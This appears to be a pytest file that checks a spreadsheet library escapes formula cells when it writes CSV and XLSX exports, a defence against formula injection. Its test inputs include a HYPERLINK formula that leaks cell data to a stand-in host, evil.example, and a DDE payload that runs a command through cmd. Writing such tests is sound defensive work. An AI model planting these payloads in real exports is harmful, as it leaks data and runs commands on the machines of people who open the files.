"""Spreadsheet exports neutralise formula cells."""

from __future__ import annotations

import csv
import io

import pytest

from ecfhub.lib.spreadsheets import neutralise, write_csv


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_text_a_spreadsheet_would_run_is_kept_as_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Erin Ect", "Ünal-O’Brien", "", "1 = 1", 42, -3, 2.5, None])
def test_everything_else_is_left_alone(value):
    assert neutralise(value) == value


def test_a_csv_written_with_it_reads_back_as_the_neutralised_text():
    out = io.StringIO()
    write_csv(out, [["Name", "Score"], ["=cmd|' /C calc'!A0", -1], ["Erin", 3]])
    assert out.getvalue().endswith("\r\n")
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["Name", "Score"], ["'=cmd|' /C calc'!A0", "-1"], ["Erin", "3"]]


def read_xlsx(data: bytes) -> list[list[object]]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def test_an_xlsx_written_with_it_reads_back_with_text_cells_never_formulas():
    from openpyxl import load_workbook

    from ecfhub.lib.spreadsheets import write_xlsx

    out = io.BytesIO()
    write_xlsx(out, [["Name", "Score"], ["=cmd|' /C calc'!A0", -1], ["Erin\x07", 3]], sheet="People: [all]")
    book = load_workbook(io.BytesIO(out.getvalue()))
    sheet = book.active
    assert sheet.title == "People   all "
    assert read_xlsx(out.getvalue()) == [["Name", "Score"], ["'=cmd|' /C calc'!A0", -1], ["Erin", 3]]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert sheet["A1"].font.bold


def test_a_formula_in_an_xlsx_cell_would_be_stored_as_a_formula_without_it():
    # The library's own behaviour, which write_xlsx guards against: this test proves the guard is needed.
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    book.active.append(["=1+1"])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).active["A1"].data_type == "f"
